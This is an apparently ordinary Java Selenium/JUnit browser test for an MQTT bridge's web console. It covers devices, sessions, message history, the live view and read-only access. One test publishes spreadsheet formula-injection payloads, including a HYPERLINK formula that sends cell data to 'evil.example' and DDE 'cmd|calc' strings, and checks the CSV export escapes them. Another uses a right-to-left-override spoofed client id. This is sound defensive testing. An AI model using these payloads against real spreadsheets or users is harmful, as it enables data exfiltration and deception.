package io.mqttbridge.api.console;

import io.dropwizard.testing.junit5.DropwizardAppExtension;
import io.dropwizard.testing.junit5.DropwizardExtensionsSupport;
import io.mqttbridge.api.BridgeConfiguration;
import io.mqttbridge.api.testing.FreshBridgeApp;
import jakarta.ws.rs.client.Entity;
import jakarta.ws.rs.core.HttpHeaders;
import jakarta.ws.rs.core.Response;
import org.eclipse.paho.mqttv5.client.MqttClient;
import org.eclipse.paho.mqttv5.client.MqttConnectionOptions;
import org.eclipse.paho.mqttv5.client.persist.MemoryPersistence;
import org.eclipse.paho.mqttv5.common.MqttMessage;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.openqa.selenium.By;
import org.openqa.selenium.Dimension;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;
import org.openqa.selenium.logging.LogEntry;
import org.openqa.selenium.logging.LogType;
import org.openqa.selenium.logging.LoggingPreferences;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.logging.Level;
import java.util.stream.IntStream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * The console in a real browser (Debian's Chromium through chromedriver, headless) against the
 * whole application with embedded Kafka and PostgreSQL: sign in, create a device, connect a real
 * MQTT client as that device, find it in the sessions, its messages in the history and in the live
 * view (MQTT over secure WebSocket from the page), disable it and see it disconnected; a read-only
 * operator sees no actions. No page may log a console error.
 *
 * <p>Screenshots of each page go to {@code target/console-screenshots}, or to the directory named
 * by {@code -Dconsole.screenshots=...} (the README's are made with {@code ../docs/console}).
 */
@ExtendWith(DropwizardExtensionsSupport.class)
class ConsoleBrowserTest {

    private static final Path CHROMIUM = Path.of(System.getProperty("console.chromium", "/usr/bin/chromium"));
    private static final Path CHROMEDRIVER = Path.of(System.getProperty("console.chromedriver", "/usr/bin/chromedriver"));
    private static final Duration WAIT = Duration.ofSeconds(20);
    private static ChromeDriver browser;
    private static final List<String> consoleErrors = new ArrayList<>();

    private static final FreshBridgeApp BRIDGE = new FreshBridgeApp("console-config.yml", "bridge_console");
    static final DropwizardAppExtension<BridgeConfiguration> APP = BRIDGE.extension();

    @BeforeAll
    static void startBrowser() throws Exception {
        assumeTrue(Files.isExecutable(CHROMIUM) && Files.isExecutable(CHROMEDRIVER),
                "Chromium and chromedriver are needed (apt-get install chromium chromium-driver); .ci/run installs them");
        ChromeOptions options = new ChromeOptions();
        options.setBinary(CHROMIUM.toFile());
        options.addArguments("--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-dev-shm-usage", "--window-size=1280,900",
                // Trust exactly the generated WSS certificate's key, as an operator who accepted it would.
                "--ignore-certificate-errors-spki-list=" + spkiSha256(BRIDGE.dataDirectory().resolve("console-tls/wss.p12")));
        LoggingPreferences logs = new LoggingPreferences();
        logs.enable(LogType.BROWSER, Level.ALL);
        options.setCapability("goog:loggingPrefs", logs);
        ChromeDriverService service = new ChromeDriverService.Builder().usingDriverExecutable(CHROMEDRIVER.toFile())
                .usingAnyFreePort().build();
        browser = new ChromeDriver(service, options);
        browser.manage().timeouts().implicitlyWait(Duration.ZERO);
    }

    /** Each test answers for its own console errors: drop those of the tests before it. */
    @BeforeEach
    void forgetEarlierConsoleErrors() {
        if (browser != null) {
            collectConsoleErrors();
        }
        consoleErrors.clear();
    }

    @AfterAll
    static void stopBrowserAndDropDatabase() {
        if (browser != null) {
            browser.quit();
        }
        BRIDGE.dropDatabase();
    }

    /** base64(SHA-256(SubjectPublicKeyInfo)) of the key store's certificate, as Chromium expects it. */
    private static String spkiSha256(Path keyStoreFile) throws Exception {
        String password = Files.readString(keyStoreFile.resolveSibling(GeneratedCertificate.PASSWORD_FILE)).trim();
        KeyStore keyStore = KeyStore.getInstance("PKCS12");
        try (InputStream in = Files.newInputStream(keyStoreFile)) {
            keyStore.load(in, password.toCharArray());
        }
        byte[] spki = keyStore.getCertificate(keyStore.aliases().nextElement()).getPublicKey().getEncoded();
        return Base64.getEncoder().encodeToString(MessageDigest.getInstance("SHA-256").digest(spki));
    }

    private static String base() {
        return "http://127.0.0.1:" + APP.getLocalPort();
    }

    @SuppressWarnings("unchecked")
    private static int mqttPort() {
        return (Integer) APP.client().target(base() + "/api/v1/live/broker").request()
                .header(HttpHeaders.AUTHORIZATION, "Bearer console-admin-token").get(Map.class).get("port");
    }

    private static WebElement waitFor(By by) {
        return await().atMost(WAIT).ignoreExceptions().until(() -> browser.findElement(by), e -> e.isDisplayed());
    }

    private static void waitForText(By by, String text) {
        await().atMost(WAIT).ignoreExceptions().untilAsserted(() -> assertThat(browser.findElement(by).getText()).contains(text));
    }

    private static void go(String route) {
        browser.get(base() + "/#/" + route);
        collectConsoleErrors();
    }

    private static void collectConsoleErrors() {
        for (LogEntry entry : browser.manage().logs().get(LogType.BROWSER)) {
            if (entry.getLevel().intValue() >= Level.SEVERE.intValue()) {
                consoleErrors.add(entry.getMessage());
            }
        }
    }

    private static void screenshot(String name) throws IOException {
        Path directory = Path.of(System.getProperty("console.screenshots", "target/console-screenshots"));
        Files.createDirectories(directory);
        Files.write(directory.resolve(name + ".png"), browser.getScreenshotAs(OutputType.BYTES));
    }

    private static void signIn(String token) {
        browser.get(base() + "/");
        ((JavascriptExecutor) browser).executeScript("sessionStorage.clear()");
        browser.get(base() + "/");
        WebElement field = waitFor(By.id("token"));
        field.sendKeys(token);
        browser.findElement(By.id("signin")).click();
        waitFor(By.id("nav-overview"));
    }

    private static void signOut() {
        browser.findElement(By.id("signout")).click();
        waitFor(By.id("token"));
    }

    @Test
    void operatorManagesADeviceAndWatchesItsTrafficInTheBrowser() throws Exception {
        browser.manage().window().setSize(new Dimension(1280, 900));
        signIn("console-admin-token");

        // Devices: the ACL editor refuses what the broker would refuse, then the device is created.
        go("devices");
        waitFor(By.id("new-device")).click();
        browser.findElement(By.id("new-device-id")).sendKeys("console-sensor");
        browser.findElement(By.id("new-device-name")).sendKeys("Boiler room sensor");
        browser.findElement(By.id("new-device-password")).sendKeys("console-pw");
        WebElement filter = browser.findElement(By.cssSelector(".acl-filter"));
        filter.clear();
        filter.sendKeys("console/#/x");
        waitForText(By.cssSelector(".acl-row .field-error"), "'#' must be a whole level and the last one");
        screenshot("devices-create");
        filter.clear();
        filter.sendKeys("console/%c/#");
        assertThat(browser.findElement(By.cssSelector(".acl-row .field-error")).getText()).isEmpty();
        browser.findElement(By.id("create-device")).click();
        waitFor(By.cssSelector("tr[data-device='console-sensor']"));

        MqttClient device = new MqttClient("tcp://127.0.0.1:" + mqttPort(), "console-sensor", new MemoryPersistence());
        try {
            MqttConnectionOptions options = new MqttConnectionOptions();
            options.setUserName("console-sensor");
            options.setPassword("console-pw".getBytes(StandardCharsets.UTF_8));
            options.setAutomaticReconnect(false);
            device.connect(options);
            device.subscribe("console/console-sensor/cmd", 1);
            publish(device, "console/console-sensor/temp", "{\"temp\":21.5}");

            // Sessions: connected now, on this node.
            go("sessions");
            waitFor(By.cssSelector("tr[data-client='console-sensor']"));
            // The device's timeline, newest first: its subscription is among its events.
            waitFor(By.id("timeline-device")).sendKeys("console-sensor");
            await().atMost(WAIT).ignoreExceptions().untilAsserted(() -> {
                browser.findElement(By.cssSelector("#timeline-device + button")).click();
                assertThat(browser.findElement(By.cssSelector("ol.timeline")).getText())
                        .contains("console/console-sensor/cmd");
            });
            screenshot("sessions");

            // Messages: the history finds it, in pretty JSON.
            go("messages");
            WebElement topic = waitFor(By.id("msg-topic"));
            topic.clear();
            topic.sendKeys("console/+/temp");
            await().atMost(WAIT).ignoreExceptions().untilAsserted(() -> {
                browser.findElement(By.id("msg-search")).click();
                assertThat(browser.findElement(By.id("message-list")).getText()).contains("console/console-sensor/temp");
            });
            browser.findElement(By.cssSelector("#msg-mode option[value='json']")).click();
            waitForText(By.id("message-list"), "\"temp\": 21.5");
            waitForText(By.cssSelector(".topic-tree"), "console-sensor");
            screenshot("messages");

            // Live view: the page's MQTT client over WSS, authorized by a token from the API.
            go("live");
            WebElement liveFilter = waitFor(By.id("live-filter"));
            liveFilter.clear();
            liveFilter.sendKeys("console/#");
            browser.findElement(By.id("live-subscribe")).click();
            waitForText(By.id("live-state"), "connected · console/#");
            await().atMost(WAIT).untilAsserted(() -> {
                publish(device, "console/console-sensor/temp", "{\"temp\":22.25}");
                assertThat(browser.findElement(By.id("live-messages")).getText()).contains("{\"temp\":22.25}");
            });
            screenshot("live");

            // The device's page: its session, subscriptions and latest messages.
            go("devices/console-sensor");
            waitForText(By.cssSelector("main"), "console/console-sensor/cmd");
            waitForText(By.cssSelector("main"), "{\"temp\":21.5}");
            screenshot("device");

            // Overview, once the charts have a few points.
            go("overview");
            waitForText(By.cssSelector("[data-testid='card-0']"), "1");
            await().atMost(WAIT).until(() -> browser.findElements(By.cssSelector(".uplot")).size() == 4);
            await().pollDelay(Duration.ofSeconds(5)).atMost(WAIT).untilAsserted(() ->
                    assertThat(browser.findElement(By.cssSelector("[data-testid='card-4']")).getText()).contains("back-pressure off"));
            assertThat(browser.findElement(By.cssSelector("[data-testid='card-6']")).getText())
                    .contains("Queued for clients").containsPattern("of [0-9.,]+ (B|KiB|MiB|GiB) in memory")
                    .contains("waiting in PostgreSQL");
            screenshot("overview");
            browser.manage().window().setSize(new Dimension(820, 1180));
            // The tablet layout: navigation on top, so the sidebar is now a short bar.
            await().atMost(WAIT).until(() -> browser.findElement(By.cssSelector(".sidebar")).getSize().getHeight() < 200);
            screenshot("overview-tablet");
            browser.manage().window().setSize(new Dimension(1280, 900));

            // Disable the device: its connection is closed, and the sessions page no longer lists it.
            go("devices");
            waitFor(By.cssSelector("tr[data-device='console-sensor'] button[data-action='disable']")).click();
            await().atMost(WAIT).until(() -> !device.isConnected());
            go("sessions");
            waitFor(By.cssSelector("h2"));
            await().atMost(WAIT).ignoreExceptions().untilAsserted(() ->
                    assertThat(browser.findElements(By.cssSelector("tr[data-client='console-sensor']"))).isEmpty());
        } finally {
            if (device.isConnected()) {
                device.disconnect();
            }
            device.close();
        }
        signOut();
        collectConsoleErrors();
        assertThat(consoleErrors).as("browser console errors").isEmpty();
    }

    @Test
    void readOnlyOperatorSeesEverythingAndCanChangeNothing() throws Exception {
        try (Response created = APP.client().target(base() + "/api/v1/devices").request()
                .header(HttpHeaders.AUTHORIZATION, "Bearer console-admin-token")
                .post(Entity.json(Map.of("id", "read-only-view", "password", "pw-1")))) {
            assertThat(created.getStatus()).isEqualTo(201);
        }
        browser.manage().window().setSize(new Dimension(1280, 900));
        signIn("console-reader-token");
        assertThat(browser.findElement(By.cssSelector(".who")).getText()).contains("read-only");
        go("devices");
        waitFor(By.cssSelector("tr[data-device='read-only-view']"));
        assertThat(browser.findElements(By.id("new-device"))).isEmpty();
        assertThat(browser.findElements(By.cssSelector("button[data-action]"))).isEmpty();
        screenshot("devices-read-only");
        go("sessions");
        waitFor(By.cssSelector("h2"));
        assertThat(browser.findElements(By.cssSelector("button[data-action='disconnect']"))).isEmpty();

        // The API refuses what the page does not offer.
        try (Response refused = APP.client().target(base() + "/api/v1/devices/read-only-view").request()
                .header(HttpHeaders.AUTHORIZATION, "Bearer console-reader-token")
                .method("PATCH", Entity.json(Map.of("enabled", false)))) {
            assertThat(refused.getStatus()).isEqualTo(403);
        }
        Object status = ((JavascriptExecutor) browser).executeAsyncScript(
                "const done = arguments[arguments.length - 1];"
                        + "fetch('/api/v1/devices/read-only-view', {method: 'DELETE', headers: {Authorization: 'Bearer console-reader-token'}})"
                        + ".then(r => done(r.status));");
        assertThat(((Number) status).intValue()).isEqualTo(403);
        // That refused request is the only console error this test causes (Chromium logs failed loads).
        collectConsoleErrors();
        consoleErrors.removeIf(message -> message.contains("/api/v1/devices/read-only-view") && message.contains("403"));
        signOut();
        assertThat(consoleErrors).as("browser console errors").isEmpty();
    }

    @Test
    void csvExportNeutralizesCellsThatSpreadsheetsWouldEvaluate() throws Exception {
        createDevice("csv-probe", "csv-pw", "#");
        MqttClient device = connectDevice("csv-probe", "csv-pw");
        try {
            publish(device, "=cmd|calc/A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
            publish(device, "csv/probe", "@SUM(1+1)*cmd|\" /C calc\"!A0");
        } finally {
            device.disconnect();
            device.close();
        }
        browser.manage().window().setSize(new Dimension(1280, 900));
        signIn("console-admin-token");
        go("messages");
        waitFor(By.id("msg-client")).sendKeys("csv-probe");
        await().atMost(WAIT).ignoreExceptions().untilAsserted(() -> {
            browser.findElement(By.id("msg-search")).click();
            assertThat(browser.findElement(By.id("message-list")).getText()).contains("=cmd|calc/A0").contains("@SUM");
        });
        // The page builds the file as a Blob: keep it to read it back.
        js().executeScript("window.exported = [];"
                + "const create = URL.createObjectURL.bind(URL);"
                + "URL.createObjectURL = (blob) => { window.exported.push(blob); return create(blob); };");
        browser.findElement(By.id("export-csv")).click();
        await().atMost(WAIT).until(() -> ((Number) js().executeScript("return window.exported.length")).intValue() == 1);
        String csv = (String) js().executeAsyncScript(
                "const done = arguments[arguments.length - 1]; window.exported[0].text().then(done);");
        assertThat(csv).contains("\"'=cmd|calc/A0\"", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"",
                "\"'@SUM(1+1)*cmd|\"\" /C calc\"\"!A0\"", "\"csv/probe\"");
        assertThat(csv.split("\r\n")).allSatisfy(line -> assertThat(line).doesNotContain(",\"=", ",\"@", ",\"+", ",\"-"));
        signOut();
        collectConsoleErrors();
        assertThat(consoleErrors).as("browser console errors").isEmpty();
    }

    /** The test's live-view tokens last 30 s (console-config.yml): the view takes a new one 10 s before. */
    @Test
    void theLiveViewMissesNothingWhileItsTokenIsRenewed() throws Exception {
        createDevice("renew-probe", "renew-pw", "renew/#");
        MqttClient device = connectDevice("renew-probe", "renew-pw");
        try {
            openLiveView("renew/#");
            browser.findElement(By.id("live-subscribe")).click();
            waitForText(By.id("live-state"), "connected · renew/#");
            String firstToken = browser.findElement(By.id("live-state")).getText();

            // A message every 100 ms until the view shows its next token, and ten more after it.
            AtomicInteger published = new AtomicInteger();
            await().atMost(Duration.ofSeconds(45)).pollInterval(Duration.ofMillis(100)).until(() -> {
                publish(device, "renew/n", String.valueOf(published.getAndIncrement()));
                String state = browser.findElement(By.id("live-state")).getText();
                return state.startsWith("connected") && !state.equals(firstToken);
            });
            for (int i = 0; i < 10; i++) {
                publish(device, "renew/n", String.valueOf(published.getAndIncrement()));
            }

            int total = published.get();
            List<String> newestFirst = IntStream.range(0, total).mapToObj(i -> String.valueOf(total - 1 - i)).toList();
            await().atMost(WAIT).untilAsserted(() -> assertThat(browser
                    .findElements(By.cssSelector("#live-messages li pre.payload")).stream().map(WebElement::getText)
                    .toList()).as("every message, once, across the renewal").isEqualTo(newestFirst));
            await().atMost(WAIT).until(() -> consoleClients() == 1);
        } finally {
            device.disconnect();
            device.close();
        }
        signOut();
        collectConsoleErrors();
        assertThat(consoleErrors).as("browser console errors").isEmpty();
    }

    @Test
    void liveViewKeepsOneConnectionWhenSubscribeIsClickedTwiceAndStopEndsIt() throws Exception {
        createDevice("live-probe", "live-pw", "live/#");
        MqttClient device = connectDevice("live-probe", "live-pw");
        try {
            openLiveView("live/#");
            // Subscribe, then Stop at once: the connect in flight is cancelled.
            js().executeScript("document.getElementById('live-subscribe').click();"
                    + "document.getElementById('live-stop').click();");
            await().pollDelay(Duration.ofSeconds(2)).atMost(WAIT).until(() -> consoleClients() == 0);
            assertThat(browser.findElement(By.id("live-state")).getText()).isEqualTo("not connected");

            // Subscribe twice in a row: one connection, each message shown once.
            js().executeScript("const b = document.getElementById('live-subscribe'); b.click(); b.click();");
            waitForText(By.id("live-state"), "connected · live/#");
            publish(device, "live/probe/1", "first");
            waitForText(By.id("live-messages"), "first");
            await().during(Duration.ofSeconds(1)).atMost(Duration.ofSeconds(2))
                    .until(() -> browser.findElements(By.cssSelector("#live-messages li")).size() == 1);
            assertThat(consoleClients()).isEqualTo(1);

            // Stop: the connection ends and nothing more arrives.
            browser.findElement(By.id("live-stop")).click();
            await().atMost(WAIT).until(() -> consoleClients() == 0);
            publish(device, "live/probe/2", "second");
            await().during(Duration.ofSeconds(1)).atMost(Duration.ofSeconds(2))
                    .until(() -> !browser.findElement(By.id("live-messages")).getText().contains("second"));
            assertThat(browser.findElement(By.id("live-state")).getText()).isEqualTo("not connected");
        } finally {
            device.disconnect();
            device.close();
        }
        signOut();
        collectConsoleErrors();
        assertThat(consoleErrors).as("browser console errors").isEmpty();
    }

    @Test
    void everyConnectedClientIsCountedAndCanBeReachedPastTheFirstThousand() throws Exception {
        List<Socket> fleet = new ArrayList<>();
        try {
            int port = mqttPort();
            for (int i = 0; i < FLEET_SIZE; i++) {
                fleet.add(connectAnonymously(port, String.format("fleet-%04d", i)));
            }
            // Connected last, so listed first: a client id with a right-to-left override in it.
            fleet.add(connectAnonymously(port, SPOOFING_CLIENT_ID));
            await().atMost(Duration.ofSeconds(60)).until(() -> connectedInHistory() >= FLEET_SIZE + 1);
            browser.manage().window().setSize(new Dimension(1280, 900));
            signIn("console-admin-token");

            go("overview");
            await().atMost(WAIT).ignoreExceptions().untilAsserted(() -> assertThat(Integer.parseInt(
                    browser.findElement(By.cssSelector("[data-testid='card-0'] .value")).getText().replaceAll("[^0-9]", "")))
                    .isGreaterThanOrEqualTo(FLEET_SIZE));

            // The first client to connect is the last one listed (newest first): page to it and disconnect it.
            go("sessions");
            waitFor(By.cssSelector("tr[data-client]"));
            // The override is shown as an escape inside an isolated <bdi>, so it flips nothing.
            await().atMost(WAIT).ignoreExceptions().untilAsserted(() -> assertThat(js().executeScript(
                    "const row = [...document.querySelectorAll('tr[data-client]')].find((r) => r.dataset.client === arguments[0]);"
                    + "const cell = row.querySelector('.client-id bdi');"
                    + "return cell.textContent + '|' + getComputedStyle(cell).unicodeBidi;", SPOOFING_CLIENT_ID))
                    .isEqualTo("fleet-rtl\\u202Egpj.exe|isolate"));
            await().atMost(Duration.ofSeconds(60)).ignoreExceptions().until(() -> {
                if (!browser.findElements(By.cssSelector("tr[data-client='fleet-0000']")).isEmpty()) {
                    return true;
                }
                String firstRow = browser.findElement(By.cssSelector("tr[data-client]")).getAttribute("data-client");
                browser.findElement(By.id("connected-next")).click();
                await().atMost(WAIT).until(() -> !firstRow.equals(
                        browser.findElement(By.cssSelector("tr[data-client]")).getAttribute("data-client")));
                return false;
            });
            browser.findElement(By.cssSelector("tr[data-client='fleet-0000'] button[data-action='disconnect']")).click();
            waitFor(By.cssSelector("dialog.modal button.danger")).click();
            Socket first = fleet.get(0);
            first.setSoTimeout((int) WAIT.toMillis());
            assertThat(first.getInputStream().read()).as("the broker closed fleet-0000's connection").isEqualTo(-1);
        } finally {
            for (Socket socket : fleet) {
                socket.close();
            }
        }
        signOut();
        collectConsoleErrors();
        assertThat(consoleErrors).as("browser console errors").isEmpty();
    }

    @Test
    void aDevicePageAndAnInvalidAddressRenderCleanly() throws Exception {
        createDevice("page-probe", "page-pw", "page/#");
        browser.manage().window().setSize(new Dimension(1280, 900));
        // Signing in renders the page once (it used to render it twice).
        browser.get(base() + "/");
        js().executeScript("sessionStorage.clear()");
        browser.get(base() + "/");
        waitFor(By.id("token")).sendKeys("console-reader-token");
        js().executeScript("window.shells = 0;"
                + "new MutationObserver((changes) => changes.forEach((c) => c.addedNodes.forEach((n) => {"
                + "  if (n.classList && n.classList.contains('layout')) window.shells++; })))"
                + ".observe(document.getElementById('app'), {childList: true});");
        browser.findElement(By.id("signin")).click();
        waitFor(By.id("nav-overview"));
        Thread.sleep(500);
        assertThat(((Number) js().executeScript("return window.shells")).intValue()).as("pages rendered").isEqualTo(1);

        // A read-only operator's device page has no action bar, and no "null" in its place.
        go("devices/page-probe");
        waitForText(By.cssSelector("main"), "Access rules");
        Object nullText = js().executeScript("return [...document.querySelector('main').childNodes]"
                + ".some((n) => n.nodeType === Node.TEXT_NODE && n.data === 'null')");
        assertThat(nullText).isEqualTo(false);

        // A malformed address says so instead of throwing and leaving the previous page on screen.
        js().executeScript("location.hash = '#/devices/%E0%A4%A'");
        waitForText(By.cssSelector("main h1"), "Not a valid address");
        signOut();
        collectConsoleErrors();
        assertThat(consoleErrors).as("browser console errors").isEmpty();
    }

    @Test
    void largePayloadsShowTheirStartUntilAskedForAll() throws Exception {
        createDevice("big-probe", "big-pw", "big/#");
        MqttClient device = connectDevice("big-probe", "big-pw");
        try {
            device.publish("big/probe", new MqttMessage(new byte[200 * 1024]));
        } finally {
            device.disconnect();
            device.close();
        }
        browser.manage().window().setSize(new Dimension(1280, 900));
        signIn("console-admin-token");
        go("messages");
        waitFor(By.id("msg-client")).sendKeys("big-probe");
        browser.findElement(By.cssSelector("#msg-mode option[value='hex']")).click();
        await().atMost(WAIT).ignoreExceptions().untilAsserted(() -> {
            browser.findElement(By.id("msg-search")).click();
            assertThat(browser.findElement(By.cssSelector("#message-list .payload-more")).getText())
                    .contains("first 1.0 KiB of 200.0 KiB");
        });
        assertThat(payloadLength()).as("characters of the hex preview").isLessThan(10_000);
        browser.findElement(By.cssSelector("#message-list .show-all")).click();
        await().atMost(WAIT).until(() -> payloadLength() > 200 * 1024 * 3);
        signOut();
        collectConsoleErrors();
        assertThat(consoleErrors).as("browser console errors").isEmpty();
    }

    private static long payloadLength() {
        return ((Number) js().executeScript("return document.querySelector('#message-list pre.payload').textContent.length"))
                .longValue();
    }

    private static final int FLEET_SIZE = 1_100;
    private static final String SPOOFING_CLIENT_ID = "fleet-rtl\u202Egpj.exe";

    private static JavascriptExecutor js() {
        return browser;
    }

    private static void createDevice(String id, String password, String topicFilter) {
        try (Response created = APP.client().target(base() + "/api/v1/devices").request()
                .header(HttpHeaders.AUTHORIZATION, "Bearer console-admin-token")
                .post(Entity.json(Map.of("id", id, "password", password, "aclRules",
                        List.of(Map.of("permission", "allow", "action", "all", "topicFilter", topicFilter)))))) {
            assertThat(created.getStatus()).isEqualTo(201);
        }
    }

    /** Signed in as an admin, on the live page with {@code filter} typed in, not subscribed yet. */
    private static void openLiveView(String filter) {
        browser.manage().window().setSize(new Dimension(1280, 900));
        signIn("console-admin-token");
        go("live");
        WebElement liveFilter = waitFor(By.id("live-filter"));
        liveFilter.clear();
        liveFilter.sendKeys(filter);
    }

    private static MqttClient connectDevice(String id, String password) throws Exception {
        MqttClient client = new MqttClient("tcp://127.0.0.1:" + mqttPort(), id, new MemoryPersistence());
        MqttConnectionOptions options = new MqttConnectionOptions();
        options.setUserName(id);
        options.setPassword(password.getBytes(StandardCharsets.UTF_8));
        options.setAutomaticReconnect(false);
        client.connect(options);
        return client;
    }

    /** The live view's own MQTT clients connected to the broker now (their user names start with console:). */
    @SuppressWarnings("unchecked")
    private static long consoleClients() {
        Map<String, Object> page = APP.client().target(base() + "/api/v1/live/clients").queryParam("limit", 1000)
                .request().header(HttpHeaders.AUTHORIZATION, "Bearer console-admin-token").get(Map.class);
        return ((List<Map<String, Object>>) page.get("items")).stream()
                .filter(c -> String.valueOf(c.get("username")).startsWith("console:")).count();
    }

    /** Clients the session history (PostgreSQL) holds as connected now, on all nodes. */
    @SuppressWarnings("unchecked")
    private static int connectedInHistory() {
        int count = 0;
        String cursor = null;
        do {
            var target = APP.client().target(base() + "/api/v1/sessions/connected").queryParam("limit", 1000);
            if (cursor != null) {
                target = target.queryParam("cursor", cursor);
            }
            Map<String, Object> page = target.request().header(HttpHeaders.AUTHORIZATION, "Bearer console-admin-token")
                    .get(Map.class);
            count += ((List<?>) page.get("items")).size();
            cursor = (String) page.get("nextCursor");
        } while (cursor != null);
        return count;
    }

    /**
     * A bare MQTT 3.1.1 connection without user name, clean session and no keep-alive, held open by
     * the socket alone: a thousand of these cost a thousand sockets, not a thousand client threads.
     */
    private static Socket connectAnonymously(int port, String clientId) throws IOException {
        byte[] id = clientId.getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream packet = new ByteArrayOutputStream();
        packet.write(0x10);
        packet.write(12 + id.length);
        packet.write(new byte[] {0, 4, 'M', 'Q', 'T', 'T', 4, 0x02, 0, 0});
        packet.write(id.length >> 8);
        packet.write(id.length & 0xff);
        packet.write(id);
        Socket socket = new Socket("127.0.0.1", port);
        socket.setSoTimeout((int) WAIT.toMillis());
        socket.getOutputStream().write(packet.toByteArray());
        byte[] connack = socket.getInputStream().readNBytes(4);
        assertThat(connack).as("CONNACK accepted for " + clientId).containsExactly(new byte[] {0x20, 0x02, 0x00, 0x00});
        return socket;
    }

    private static void publish(MqttClient client, String topic, String payload) throws Exception {
        MqttMessage message = new MqttMessage(payload.getBytes(StandardCharsets.UTF_8));
        message.setQos(1);
        client.publish(topic, message);
    }
}
